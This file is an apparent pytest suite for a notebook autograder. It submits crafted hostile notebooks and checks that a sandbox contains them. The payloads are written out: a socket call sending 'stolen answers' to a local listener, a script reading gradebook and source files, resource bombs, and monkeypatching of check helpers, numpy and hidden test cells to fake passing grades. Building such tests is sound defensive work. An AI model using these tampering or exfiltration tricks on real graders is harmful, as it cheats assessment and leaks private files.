"""Hostile submissions: each is graded, contained, and explained, and the rest of the class is graded normally.

One small class of crafted q6_batchnorm submissions is graded by the class grader (sandbox, limits, tamper
guard) in a scratch course of its own; the tamper attempts are also graded by bare `nbgrader autograde`, to
show that each attack is real: it gains points there and none here.
"""
import copy
import html
import re
import shutil
import socket
import subprocess
import threading

import pytest

from utils import sandbox
from utils import submissions as subs
from utils.autograde import grade_class
from utils.course import nbgrader, scores, scratch_course

from conftest import ASSIGNMENT, ROOT, WORKERS

NB = "q6_batchnorm"
CELL_TIMEOUT = 20  # s; the slowest reference cell of q6 takes about 5 s here
WALL_LIMIT = 60  # s for the whole notebook; the reference takes about 15 s
# A forward pass that skips the normalization: wrong in every hidden test of bn_train_hidden.
WRONG_FORWARD = '''def batchnorm_forward(Z, gamma, beta, eps, cache_dict, beta_avg, mode):
    return gamma * np.asarray(Z, dtype=float) + beta
'''
WRONG_QUIZ = 'TRUE_FALSE = [False, False, True, False, True]\nMULTIPLE_CHOICE = "a"\n'


def _reference():
    source = subs.read(ROOT / "source" / ASSIGNMENT / f"{NB}.ipynb")
    release = subs.read(ROOT / "release" / ASSIGNMENT / f"{NB}.ipynb")
    return subs.reference(source, release)


def _cell(nb, gid):
    return next(c for c in nb.cells if subs.grade_id(c) == gid)


def _prepend(gid, code, after=""):
    """The reference with `code` run first in solution cell `gid`, and `after` (e.g. a wrong answer) last."""
    nb = copy.deepcopy(_reference())
    _cell(nb, gid).source = code + "\n" + _cell(nb, gid).source + "\n\n" + after
    return nb


def hostile_class(port: int, course) -> dict:
    leak_paths = [course / "submitted" / "safe-reference" / ASSIGNMENT / f"{NB}.ipynb",
                  course / "source" / ASSIGNMENT / f"{NB}.ipynb", course / "gradebook.db",
                  ROOT / "source" / ASSIGNMENT / f"{NB}.ipynb", ROOT / "tests" / "conftest.py"]
    snoop = ("import glob\n_leaked = []\n"
             f"for _p in {[str(p) for p in leak_paths]!r} + glob.glob('/tmp/grading-worker-*/**/*.db', recursive=True):\n"
             "    try:\n        open(_p, 'rb').read(10); _leaked.append(_p)\n    except OSError:\n        pass\n"
             "print('LEAKED', _leaked)\n")
    network = ("import socket\ntry:\n"
               f"    socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen answers')\n"
               "    print('NETWORK reached')\nexcept OSError as _e:\n    print('NETWORK blocked', type(_e).__name__)\n")
    return {
        "safe-reference": _reference(),
        "infinite-loop": _prepend("bn_forward", "while True:\n    pass"),
        "runaway-ignores-interrupt": _prepend(
            "bn_forward", "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n"
                          "    time.sleep(0.1)"),
        "slow-everywhere": _slow_everywhere(),
        "memory-bomb": _prepend("bn_forward", "_hog = bytearray(12 * 2**30)"),
        "huge-print": _prepend("bn_forward", "print('x' * 100_000_000)"),
        "kills-its-kernel": _prepend("bn_backward", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        "sys-exit": _prepend("bn_backward", "import sys\nsys.exit()"),
        "network": _prepend("bn_forward", network),
        "reads-other-files": _prepend("bn_forward", snoop),
        "tamper-check-helpers": _prepend("bn_forward", "import utils.checks\n"
                                         "utils.checks.check_close = lambda *a, **k: None\n"
                                         "utils.checks.check_shape = lambda *a, **k: None", WRONG_FORWARD),
        "tamper-numpy": _prepend("bn_forward", "np.any = lambda *a, **k: False\nnp.all = lambda *a, **k: True",
                                 WRONG_FORWARD),
        "tamper-traceback": _prepend("bn_quiz", "get_ipython().showtraceback = lambda *a, **k: None\n"
                                     "get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)",
                                     WRONG_QUIZ),
        "tamper-hidden-cell": _edit_hidden(metadata=False),
        "tamper-hidden-metadata": _edit_hidden(metadata=True),
    }


def _slow_everywhere():
    """Each solution cell stays just under the cell limit; together they pass the notebook's limit."""
    nb = copy.deepcopy(_reference())
    for cell in nb.cells:
        if subs.is_solution(cell) and cell.cell_type == "code":
            cell.source = f"import time\ntime.sleep({CELL_TIMEOUT - 2})\n" + cell.source
    return nb


def _edit_hidden(metadata: bool):
    nb = _prepend("bn_forward", "", WRONG_FORWARD)
    hidden = _cell(nb, "bn_train_hidden")
    hidden.source = "pass  # nothing to see here"
    if metadata:
        hidden.metadata["nbgrader"].update(locked=False, solution=True, grade=False, points=0)
    return nb


ATTACKS = {"tamper-check-helpers": "bn_train_hidden", "tamper-numpy": "bn_train_hidden"}


class Listener:
    """A TCP server on this machine's loopback that records whatever a notebook sends it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.received.append(conn.recv(100))
            conn.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    course = scratch_course(ROOT, tmp_path_factory.mktemp("hostile"), ASSIGNMENT)
    bare = scratch_course(ROOT, tmp_path_factory.mktemp("bare"), ASSIGNMENT)
    listener = Listener()
    for student, nb in hostile_class(listener.port, course).items():
        subs.write(nb, course / "submitted" / student / ASSIGNMENT / f"{NB}.ipynb")
        if student in ATTACKS:
            subs.write(nb, bare / "submitted" / student / ASSIGNMENT / f"{NB}.ipynb")
    env = {"COURSE_CELL_TIMEOUT": str(CELL_TIMEOUT)}
    students = [p.name for p in (course / "submitted").iterdir()]
    results = grade_class(course, ASSIGNMENT, envs={s: env for s in students}, workers=WORKERS,
                          wall_limit=WALL_LIMIT)
    nbgrader(bare, "autograde", ASSIGNMENT, env=env)
    listener.sock.close()

    def cells(root, student):
        row = next(r for r in scores(root, ASSIGNMENT) if r.student == student and r.notebook == NB)
        return {gid: score for gid, (score, _) in row.cells.items()}

    return {"course": course, "results": {r.student: r for r in results}, "listener": listener,
            "cells": lambda s: cells(course, s), "bare": lambda s: cells(bare, s)}


def feedback(hostile, student) -> str:
    raw = (hostile["course"] / "feedback" / student / ASSIGNMENT / f"{NB}.html").read_text()
    return html.unescape(re.sub(r"<[^>]+>", "", raw))


def outputs(hostile, student) -> str:
    nb = subs.read(hostile["course"] / "autograded" / student / ASSIGNMENT / f"{NB}.ipynb")
    return "".join(o.get("text", "") + o.get("ename", "") + o.get("evalue", "") for c in nb.cells
                   if c.cell_type == "code" for o in c.outputs)


FULL = {"bn_true_false_hidden": 0.5, "bn_multiple_choice_hidden": 0.5, "bn_train_hidden": 2, "bn_test_hidden": 1,
        "bn_keras_hidden": 1, "bn_backward_hidden": 2, "bn_params_hidden": 1}


def test_sandbox_is_available_here():
    assert sandbox.unavailable_reason() is None, sandbox.warning()


def test_the_rest_of_the_class_is_graded_normally(hostile):
    got = hostile["cells"]("safe-reference")
    assert {g: got[g] for g in FULL} == FULL
    assert all(r.error is None for r in hostile["results"].values()), hostile["results"]


def test_an_infinite_loop_is_interrupted_and_only_its_cell_fails(hostile):
    got = hostile["cells"]("infinite-loop")
    assert got["bn_train_hidden"] == 0 and got["bn_test_hidden"] == 0
    assert got["bn_backward_hidden"] == 2 and got["bn_params_hidden"] == 1
    assert "KeyboardInterrupt" in feedback(hostile, "infinite-loop")


def test_a_cell_that_ignores_interrupts_stops_the_kernel_and_keeps_earlier_points(hostile):
    got = hostile["cells"]("runaway-ignores-interrupt")
    assert got["bn_true_false_hidden"] == 0.5 and got["bn_multiple_choice_hidden"] == 0.5
    assert got["bn_train_hidden"] == 0 and got["bn_backward_hidden"] == 0 and got["bn_params_hidden"] == 0
    assert "did not stop when interrupted" in feedback(hostile, "runaway-ignores-interrupt")


def test_a_notebook_over_its_time_limit_gets_zero_and_the_reason(hostile):
    assert not any(hostile["cells"]("slow-everywhere").values())
    assert f"longer than the grader's limit of {WALL_LIMIT}" in feedback(hostile, "slow-everywhere")


def test_a_memory_bomb_gets_memory_error_in_its_cell(hostile):
    got = hostile["cells"]("memory-bomb")
    assert got["bn_train_hidden"] == 0 and got["bn_backward_hidden"] == 2
    assert "MemoryError" in feedback(hostile, "memory-bomb")


def test_a_huge_print_is_cut_and_the_cell_fails(hostile):
    nb_file = hostile["course"] / "autograded" / "huge-print" / ASSIGNMENT / f"{NB}.ipynb"
    assert nb_file.stat().st_size < 3_000_000
    assert "OutputLimitExceeded" in outputs(hostile, "huge-print")
    assert hostile["cells"]("huge-print")["bn_backward_hidden"] == 2  # the rest is graded


def test_a_kernel_that_kills_itself_loses_only_what_comes_after(hostile):
    got = hostile["cells"]("kills-its-kernel")
    assert got["bn_train_hidden"] == 2 and got["bn_keras_hidden"] == 1
    assert got["bn_backward_hidden"] == 0 and got["bn_params_hidden"] == 0
    assert "KernelDied" in feedback(hostile, "kills-its-kernel")


def test_sys_exit_fails_its_cell(hostile):
    got = hostile["cells"]("sys-exit")
    assert got["bn_train_hidden"] == 2 and got["bn_backward_hidden"] == 0


def test_no_network(hostile):
    assert hostile["listener"].received == []
    assert "NETWORK blocked" in outputs(hostile, "network")


def test_no_other_files(hostile):
    assert "LEAKED []" in outputs(hostile, "reads-other-files")


@pytest.mark.parametrize("student, target", ATTACKS.items())
def test_patching_what_hidden_tests_call_gains_nothing(hostile, student, target):
    assert hostile["bare"](student)[target] == FULL[target], "the attack should work on bare nbgrader"
    assert hostile["cells"](student)[target] == 0
    assert "restored before this test" in feedback(hostile, student)


def test_hiding_tracebacks_gains_nothing(hostile):
    got = hostile["cells"]("tamper-traceback")
    assert got["bn_true_false_hidden"] == 0 and got["bn_multiple_choice_hidden"] == 0


@pytest.mark.parametrize("student", ["tamper-hidden-cell", "tamper-hidden-metadata"])
def test_editing_hidden_cells_gains_nothing(hostile, student):
    assert hostile["cells"](student)["bn_train_hidden"] == 0


CHROMIUM = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync"]


def test_feedback_renders_in_headless_chromium(hostile, tmp_path):
    """The feedback a student opens: its grader notes and scores survive rendering, and the page is drawn."""
    browser = shutil.which("chromium")
    assert browser, "chromium is not installed (apt-get install chromium; make setup does it as root)"
    page = (hostile["course"] / "feedback" / "slow-everywhere" / ASSIGNMENT / f"{NB}.html").as_uri()
    flags = [browser, *CHROMIUM, f"--user-data-dir={tmp_path / 'profile'}"]
    dom = subprocess.run(flags + ["--dump-dom", page], capture_output=True, text=True, timeout=120).stdout
    text = html.unescape(re.sub(r"<[^>]+>", "", dom))
    assert "Grader notes" in text and "q6_batchnorm (Score: 0.0 / 10.0)" in text
    shot = tmp_path / "feedback.png"
    subprocess.run(flags + ["--window-size=1100,900", f"--screenshot={shot}", page], capture_output=True, timeout=120)
    from PIL import Image

    grey = Image.open(shot).convert("L")
    assert grey.size == (1100, 900)
    darkest, lightest = grey.getextrema()
    assert darkest < 80 and lightest > 200, "the page looks blank"
